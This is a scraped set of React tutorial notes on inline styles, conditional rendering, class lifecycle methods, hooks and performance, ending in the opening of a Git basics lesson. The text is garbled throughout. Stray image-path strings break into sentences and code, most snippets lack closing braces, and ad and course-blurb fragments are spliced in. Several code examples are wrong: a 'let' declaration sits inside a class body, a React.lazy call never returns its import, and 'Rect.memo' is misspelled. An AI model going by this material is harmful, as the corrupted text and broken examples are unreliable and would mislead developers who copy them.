  • It does not affect the react DOM yet
  • React also calculates the minimum number of steps it would take to apply just the updates to the real DOM
  • React then batch-updates all the changes and re-paints the DOM as the last step

Student Feedback

HTML To React review

Module 3 - Styling your components

Inline Styles

  • Inline styling react component means usingJavaScript object to style it

Tip: Styles should live close to where they are used - near your component

class MyComponent extends React.Component {
let styleObject = {
color: "red",
backgroundColor: "blue"
render() {
return (<h1 style={styleObject}>Hi</h1>

// You can also skip defining objects to make it simpler
// But, I don't recommend it because it can quickly get out of hands and difficult to maintain
render() {
return (
<h1 style={{backgroundColor: "blue"}}>Hi</h1>

Module 4 - Advanced React

Conditional Rendering

  • React components lets you render conditionally using traditional conditional logic
  • This is useful in situations for example: showing loading state if data is not yet retrieved else show the component details when datais retrieved
  • You can use if..else or ternary or short-circuit operators to achieve this
const Greeting = <div>Hello</div>;
// displayed conditionally
function SayGreeting() {
if (loading) {
return <div>Loading</div>;
} else {
return <Greeting />; // displays: Hello

// Using ternary and short-circuit method
const Greeting = <div>Hello</div>;
const Loading = <div>Loading</div>;
function SayGreeting() {
const isAuthenticated = checkAuth();
return (
{/* if isAuth is true, show AuthLinks. If false, Login */}
{isAuthenticated ? <Greeting /> : <Loading />}
{/* if isAuth is true, show Greeting. If false, nothing. */}
{isAuthenticated && <Greeting />}

Component Lifecycle

  • These lifecycle methods pertains to class-based React components
  • 4 phases: initialization, mounting, updating and unmounting in that order


  • This is where we define defaults and initial values for this.props and this.state
  • Implementing getDefaultProps() and getInitialState()• Occurs when component is being inserted into DOM

  • NOTE: Child component is mounted before the parent component

  • componentWillMount() and componentDidMount() methods are available in this phase

  • Calling this.setState() within this method will not trigger a re-render

    • This notion can be used to your advantage
  • This phase methods are called after getInitialState() and before render()• This method is called before render
  • Available on client and server side both
  • Executed after constructor
  • You can setState here based on the props
  • This method runs only once
  • Also, this is the only hook that runs on server rendering
  • Parent component's componentWillMount runs before child's componentWillMount


  • This method is executed after first render -> executed only on client side
  • This is a great place to set up initial data
  • Child component's componentDidMount runs before parent's componentDidMount
  • It runs only once
  • You can make ajax calls here
  • You can also setup any subscriptions here
    • NOTE: You can unsubscribe in componentWillUnmount

static getDerivedStateFromProps()

  • This method is called (or invoked) before the component is rendered to the DOM on initial mount• It allows a component to update its internal state in response to a change in props
  • Remember: this should be used sparingly as you can introduce subtle bugs into your application if you aren’t sure of what you’re doing.
  • To update the state -> return object with new values
  • Return null to make no updates
static getDerivedStateFromProps(props, state) {
return {
points: 200 // update state with this


  • When component state and props are getting updated
  • During this phase the component is already inserted into DOM


  • This method runs before render
  • You can setState in this method
  • Remember: DON'T change props here• Use this hook to decide whether or not to re-render component
    • true -> re-render
    • false -> do not re-render
  • This hook is used for performance enhancements
shouldComponentUpdate(nextProps, nextState) {
return this.state.value != nextState.value;


  • This hook is executed right after the render method is called -
    • The getSnapshotBeforeUpdate lifecycle method is called next
  • Handy when you want some DOM info or want to change DOM just after an update is made
    • Ex: Getting information about the scroll position
getSnapshotBeforeUpdate(prevProps, prevState) {
// Capture the scroll position so we can adjust scroll laterif (prevProps.list.length < this.props.list.length) {
const list = this.listRef.current;
return list.scrollHeight - list.scrollTop;
return null;
  • Value queried from the DOM in getSnapshotBeforeUpdate will refer to the value just before the DOM is updated
    • Think of it as staged changes before actually pushing to the DOM
  • Doesn't work on its own
    • It is meant to be used in conjunction with the componentDidUpdate lifecycle method.
  • Example usage:
    • in chat application scroll down to the last chat


  • It is similar to componentWillMount
  • You can set variables based on state and props
  • Remember: do not setState here -> you will go into an infinite loop• This hook it has prevProps and prevState available
  • This lifecycle method is invoked after the getSnapshotBeforeUpdate is invoked
    • Whatever value is returned from the getSnapshotBeforeUpdate lifecycle method is passed as the THIRD argument to the componentDidUpdate method.
componentDidUpdate(prevProps, prevState, snapshot) {
if (condition) {
} else {
// do something else or noop

Get NordVPN Deal• This phase has only one method →componentWillUnmount()
  • It is executed immediately BEFORE component is unmounted from DOM
  • You can use to perform any cleanup needed
    • Ex: you can unsubscribe from any data subscriptions

Module 5 - React hooks

React Hooks Basics

  • Introduced in React 16.8
  • It is a way to add React.Component features to functional components
    • Specifically you can add state and lifecycle hooks
  • It offers a powerful and expressive new way to reuse functionality between components
  • You can now use state in functional components
    • Not only the class components
  • Real world examples:• Wrapper for firebase API
    • React based animation library
      • react-spring

Student Feedback

HTML To React review

Why React Hooks?

  • Why do we want these?
    • JS class confuses humans and machines too!
  • Hooks are like mixins• A way to share stateful and side-effectful functionality between components.
  • It offers a great way to reuse stateful code across components
  • It can now replace your render props or HOCs
  • Developers can care LESS about the underline framework
    • Focus more on the business logic
    • No more nested and complex JSX (as needed in render props)

useState React Hook

  • useState hook gives us local state in a function component• Or you can simply use React.useState()
  • Just import useState from react
  • It gives 2 values
    • 1st - value of the state
    • 2nd - function to update the state
  • It takes in initial state data as a parameter in useState()
import React, { useState } from 'react';
function MyComponent() {
// use array destructuring to declare state variable
const [language] = useState('react');
return <div>I love {language}</div>;
  • Second value returned by useState hook is a setter function
  • Setter function can be used to change the state of the component
function MyComponent() {
// the setter function is always the second destructured value
const [language, setLanguage] = useState('react');
return (
<button onClick={() => setLanguage("javascript")}>
I love JS
<p>I love {language}</p>
  • You can create as many states as you'd want in your component
const [language, setLanguage] = React.useState('React');
const [job, setJob] = React.useState('Google');
  • You can initiate your state variable with an object too
const [profile, setProfile] = React.useState({
language: 'react',
job:'Google'

React Crash Course - Learn React JS in 5 Minutes

Learn the basics of ReactJS and get started with using it today - everything's in the article.

Module 6 - App performance optimization

Improve React app performance

  • Measure performance using these tools
    • Chrome dev tools
      • Play with the throttle feature
      • Check out the performance timeline and flame charts
    •Chrome's Lighthouse tool
  • Minimize unnecessary component re-renders
    • use shouldComponentUpdate where applicable
    • use PureComponent
    • use Rect.memo for functional components
      • along with the useMemo() hook
    • use React.lazy if you are not doing server-side rendering
    • use service worker to cache files that are worth caching
    • use libraries like react-snap to pre-render components

  • Example of shouldComponentUpdate
    • NOTE: It is encouraged to use function components over class components
    • With function components you can use useMemo() and Rect.memo hooks
// example of using shouldComponentUpdate to decide whether to re-render component or not
// Re-render if returned true. No re-render if returned false
function shouldComponentUpdate(nextProps, nextState) {
return nextProps.id !== this.props.id;

// example from https://github.com/maicki/why-did-you-update
import React from 'react';
if (process.env.NODE_ENV !== 'production') {
const {whyDidYouUpdate} = require('why-did-you-update');
// NOTE: Be sure to disable this feature in your final production build

  • Lazy load the components• Webpack optimizes your bundles
    • Webpack creates separate bundles for lazy loaded components
    • Multiple small bundles are good for performance
// TODOComponent.js
class TODOComponent extends Component{
render() {
return <div>TODOComponent</div>
// Lazy load your component
const TODOComponent = React.lazy(()=>{import('./TODOComponent.js')})
function AppComponent() {
return (<div>
<TODOComponent />

  • Cache things worth caching
    • use service worker
      • It runs in the background
    • Include specific functionality that requires heavy computation on a separate thread
      • To improve UX
      • This will unblock the main thread
  • Server-side rendering
  • Pre-render if you cannot SSR
    • It's a middle-ground between SSR and CSR
    • This usually involves generating HTML pages for every route during build time
    • And serving that to the user while a JavaScript bundle finishes compiling.• Check the app performance on mobile
  • Lists cause most of the performance problems
    • Long list renders cause problems• To fix
      • Implement virtualized lists -> like infinite scrolling
      • Or pagination

Student Feedback

HTML To React review

Howto improve web performance by using Preload, Preconnect, Prefetch

There are various ways through which we can improve the performance ofour webpage. Let's see about preload, prefetch, and preconnect with which we can improve the performance of our webpage.

Web Development Free Lessons

Module 1 - Web Development Tooling

Git and GitHub Basics

What is Git

  • Git is a Version Control System (VCS)

  • A version control system helps you document and store changes you made to your file throughout it's lifetime• It makes it easier to managing your projects, files, and changes made to them

  • You can go back and forth to different versions of your files using Git commands

  • It helps keep track of changes done to your files over time by any specific user

  • In the commit process you stage all your changes

  • git add command for staging changes

  • Then you write a nice commit message that will describe your changes to the code

    • ex: Added new TODO component
  • Then you commit your changes to your "local repository"

  • git commit command for committing your changes

  • At this point git history is generated for your commited changed. But the changes are still on your local system

  • Then you push your changes to the remote repository

  • git push command for pushing the changes• After this your changes are on the github cloud

  • So, anyone that has access to view your github repo can view these changes and can download it

  • They can also write on your changes if given sufficient access

  • For downloading the remote repo change use git fetch

  • git checkout command is then used to start working on any git feature branch

  • git merge is used if you are already on the branch and just want to merge remote changes with your local changes

NOTE: The exact syntax for these commands will be explained in the following sections

Install Git

// sample output excerpt
usage: git [--version] [--help] [-C <path>] [-c <name>=<value>]
[--exec-path[=<path>]] [--html-path] [--man-path] [--info-path]
[-p | --paginate | -P | --no-pager] [--no-replace-objects] [--bare]
[--git-dir=<path>] [--work-tree=<path>] [--namespace=<name>]
<command> [<args>]

Create Git project

